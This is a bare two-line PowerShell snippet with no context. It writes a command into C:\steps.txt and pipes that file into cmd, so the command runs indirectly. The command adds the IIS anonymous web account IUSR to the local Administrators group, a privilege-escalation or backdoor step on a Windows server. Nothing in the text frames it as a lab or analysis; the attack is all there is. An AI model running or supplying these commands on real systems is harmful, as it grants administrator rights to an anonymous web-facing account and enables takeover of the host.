Set-Content C:\steps.txt 'net localgroup Administrators IUSR /add'
Start-Process cmd -RedirectStandardInput C:\steps.txt -Wait
